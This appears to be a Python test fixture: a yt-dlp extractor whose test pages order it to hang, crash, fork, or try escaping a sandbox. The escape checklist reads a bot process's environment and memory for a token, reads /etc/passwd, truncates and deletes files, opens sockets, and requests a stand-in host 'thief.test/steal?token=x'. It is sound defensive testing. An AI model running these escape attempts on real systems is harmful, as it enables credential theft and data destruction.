"""yt-dlp extractor for tests: its pages are results in JSON, or commands to misbehave."""

from __future__ import annotations

import ctypes
import errno
import json
import os
import pathlib
import signal
import socket
import struct
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable

from yt_dlp.extractor.common import ExtractorError, InfoExtractor


def call(function: Callable[..., int], *arguments: object) -> int:
    """Call a function of the C library; raise OSError if it fails."""
    result = function(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def read(path: str) -> None:
    """Read a file, also one of /proc that mode bits alone would allow to open."""
    with pathlib.Path(path).open("rb") as file:
        file.read(1)


def outcome(attempt: Callable[[], object]) -> str:
    """Return "refused", "done", or the text of an unexpected error."""
    try:
        attempt()
    except (PermissionError, ExtractorError):
        return "refused"
    except OSError as error:  # of Python's sockets, and of Landlock for a link
        return "refused" if error.errno in (errno.EAFNOSUPPORT, errno.EXDEV) else repr(error)
    except Exception as error:  # noqa: BLE001 - the test prints it
        return repr(error)
    return "done"


def report(results: dict[str, str]) -> None:
    pathlib.Path("results.json").write_text(json.dumps(results))


def run(argv: list[str], given: str) -> str:
    """Run a program; return its exit code and output."""
    done = subprocess.run(argv, input=given, capture_output=True, text=True, check=False)
    return f"{done.returncode} {done.stdout.strip()}"


class LocalTestIE(InfoExtractor):
    """Extractor for ``http://pages.test/...``; the key ``do`` names a method to run."""

    _VALID_URL = r"https?://pages\.test/(?P<id>[\w-]+)"

    def _real_extract(self, url: str) -> dict:
        name = self._match_id(url)
        page = self._download_json(url, name)
        action = page.pop("do", None)
        if action:
            getattr(self, f"_do_{action}")(page)
        if page.get("extractor_error"):
            raise ExtractorError(page["extractor_error"], expected=True)
        if page.pop("hls", None):
            page["formats"] = self._extract_m3u8_formats(page["m3u8"], name, "mp3")
            for entry in page["formats"]:
                entry.update(vcodec="none", acodec="mp3")
        return {"id": name, "title": name, **page}

    def _do_login(self, _page: dict) -> None:
        self.raise_login_required()

    def _do_geo(self, _page: dict) -> None:
        self.raise_geo_restricted(countries=["FR"])

    def _do_drm(self, _page: dict) -> None:
        self.report_drm("x")

    def _do_hang(self, _page: dict) -> None:
        time.sleep(600)

    def _do_spin(self, _page: dict) -> None:
        while True:
            pass

    def _do_exit(self, _page: dict) -> None:
        os._exit(0)

    def _do_die(self, _page: dict) -> None:
        os.kill(os.getpid(), signal.SIGKILL)

    def _do_segfault(self, _page: dict) -> None:
        ctypes.string_at(0)

    def _do_raise(self, _page: dict) -> None:
        raise RuntimeError("an extractor's own bug")

    def _do_eat_memory(self, _page: dict) -> None:
        bytearray(8 << 30)

    def _do_fork(self, _page: dict) -> None:
        """Start a child that only a kill of the process group ends."""
        libc = ctypes.CDLL(None)  # bypasses Python's audit hook
        if libc.fork() == 0:
            libc.sleep(600)
            libc._exit(0)
        time.sleep(600)

    def _do_break_out(self, page: dict) -> None:
        """Try ways out that Python's audit hook does not stop, and report each.

        An attempt that succeeds must harm neither the machine nor the test.
        """
        files, new, bot = page["files"], page["new"], page["bot"]
        libc = ctypes.CDLL(None, use_errno=True)
        env = files["env"].encode()
        loopback = struct.pack("=H", 2) + struct.pack(">H", page["port"]) + bytes([127, 0, 0, 1])

        def connect() -> None:
            descriptor = call(libc.socket, 2, 1, 0)
            call(libc.connect, descriptor, loopback + bytes(8), 16)

        def read_memory() -> None:
            remote = struct.pack("=QQ", 0x10000, 8)
            call(libc.process_vm_readv, bot, remote, 1, remote, 1, 0)

        def fork() -> None:
            if call(libc.fork) == 0:
                os._exit(0)

        def share_memory() -> None:
            libc.shmctl(call(libc.shmget, 0, 4096, 0o1600), 0, None)

        def through_proxy(host: str) -> None:
            self._request_webpage(f"http://{host}/steal?token=x", "x")

        tries = {
            "token in the bot's environment": lambda: read(f"/proc/{bot}/environ"),
            "memory map of the bot": lambda: read(f"/proc/{bot}/maps"),
            "memory of the bot": lambda: read(f"/proc/{bot}/mem"),
            "memory of the bot, by call": read_memory,
            "trace the bot": lambda: call(libc.ptrace, 0x4206, bot, 0, 0),
            "file of settings": lambda: read(files["env"]),
            "database": lambda: read(files["database"]),
            "users": lambda: read("/etc/passwd"),
            "own environment": lambda: read("/proc/self/environ"),
            "list the folder": lambda: list(pathlib.Path(new).parent.iterdir()),
            "connect, Python": lambda: socket.create_connection(("127.0.0.1", page["port"]), 1),
            "connect, C": connect,
            "socket, Unix": lambda: call(libc.socket, 1, 1, 0),
            "socket, UDP": lambda: call(libc.socket, 2, 2, 0),
            "socket, MPTCP": lambda: call(libc.socket, 2, 1, 262),
            "sockets, pair": lambda: call(libc.socketpair, 1, 1, 0, ctypes.create_string_buffer(8)),
            "write": lambda: call(libc.open, new.encode(), os.O_CREAT | os.O_WRONLY, 0o600),
            "truncate": lambda: call(libc.truncate, env, 0),
            "truncate by reading": lambda: call(libc.open, env, os.O_TRUNC),
            "delete": pathlib.Path(files["removed"]).unlink,
            "rename": lambda: pathlib.Path(files["renamed"]).rename(new),
            "link": lambda: os.link(files["env"], "linked"),
            "symbolic link": lambda: pathlib.Path(new).symlink_to("/etc/passwd"),
            "make a folder": pathlib.Path(new).mkdir,
            "make a pipe": lambda: os.mkfifo(new),
            "change the mode": lambda: pathlib.Path(files["env"]).chmod(0o666),
            "change the owner": lambda: os.chown(files["env"], 1, 1),
            "change the times": lambda: os.utime(files["env"], (1, 1)),
            "change an attribute": lambda: os.setxattr(files["env"], "user.x", b"x"),
            "program, C": lambda: call(lambda: -libc.system(b"exit 0")),
            "program, exec": lambda: call(libc.execv, b"/bin/true", None),
            "process": fork,
            "signal the bot": lambda: os.kill(bot, 0),
            "signals by a pipe": lambda: call(libc.fcntl, 0, 8, bot),
            "renice the bot": lambda: os.setpriority(os.PRIO_PROCESS, bot, 1),
            "outlive the bot": lambda: call(libc.prctl, 1, 0, 0, 0, 0),
            "leave the group": lambda: call(libc.setpgid, 0, 0),
            "shared memory": share_memory,
            "namespace": lambda: call(libc.unshare, 0x10000000),
            "unmount": lambda: call(libc.umount2, b"/nowhere", 0),
            "io_uring": lambda: call(libc.syscall, 425, 1, ctypes.create_string_buffer(120)),
            "another site": lambda: through_proxy("thief.test"),
            "another site, by its end": lambda: through_proxy("music.test.thief.test"),
        }
        report({name: outcome(attempt) for name, attempt in tries.items()})

    def _do_own_folder(self, _page: dict) -> None:
        """Do with files what yt-dlp does with fragments and cookies."""

        def work() -> None:
            folder = pathlib.Path("cache")
            folder.mkdir()
            (folder / "a").write_text("x")
            (folder / "a").rename("b")
            pathlib.Path("b").write_text("y")
            with pathlib.Path("b").open("r+") as file:
                file.truncate(0)
            pathlib.Path("b").unlink()
            folder.rmdir()

        report({"own folder": outcome(work)})

    def _do_runtime(self, page: dict) -> None:
        """Run the JavaScript runtime as yt-dlp does, and report its code and output."""
        report({"runtime": run(page["argv"], page["input"])})

    def _do_programs(self, page: dict) -> None:
        """Start the JavaScript runtime, which is allowed, and try what its process must not."""
        libc = ctypes.CDLL(None, use_errno=True)

        def spawn(path: str) -> None:
            name = path.encode()
            argv, pid = (ctypes.c_char_p * 2)(name, None), ctypes.c_int()
            error = libc.posix_spawn(ctypes.byref(pid), name, None, None, argv, None)
            if error:
                raise OSError(error, "refused")

        tries = {f"start {path}": lambda path=path: spawn(path) for path in page["others"]}
        tries |= {
            "socket": lambda: call(libc.socket, 2, 1, 0),
            "new namespace": lambda: call(libc.unshare, 0x10000000),
            "signal the bot": lambda: os.kill(page["bot"], 0),
            "leave the group": lambda: call(libc.setpgid, 0, 0),
        }
        report(
            {name: outcome(attempt) for name, attempt in tries.items()}
            | {
                "runtime": run([page["runtime"]], "written to its stdin"),
                "runtime reads a secret": run([page["runtime"], page["secret"]], ""),
            }
        )

    def _do_escape(self, page: dict) -> None:
        """Try all ways out that Python offers, and report those that succeeded."""
        here = pathlib.Path.cwd()
        tries = {
            "connect": lambda: socket.create_connection(("127.0.0.1", page["port"]), timeout=2),
            "connect_raw": lambda: socket.socket().connect(("127.0.0.1", page["port"])),
            "unix": lambda: socket.socket(socket.AF_UNIX).connect("/run/x"),
            "udp": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)),
            "look_up": lambda: socket.getaddrinfo("inside.test", 80),
            "urllib": lambda: urllib.request.urlopen(f"http://127.0.0.1:{page['port']}/secret"),
            "file": lambda: self._downloader.urlopen("file:///etc/passwd"),
            "run": lambda: subprocess.run([sys.executable, "-c", ""], check=True),
            "system": lambda: os.system("true"),
            "fork": os.fork,
            "write": lambda: (here.parent / "left-behind").write_text("x"),
            "write_home": lambda: pathlib.Path(page["target"]).write_text("x"),
            "grow": lambda: pathlib.Path("big").write_bytes(b"\1" * (page["max_bytes"] + 1)),
        }
        done = []
        for name, attempt in tries.items():
            try:
                attempt()
            except Exception:  # noqa: BLE001 - any exception counts as refused
                continue
            done.append(name)
        pathlib.Path("big").unlink(missing_ok=True)
        page["title"] = "let through: " + " ".join(done)
        page["uploader"] = "environment: " + " ".join(sorted(os.environ))
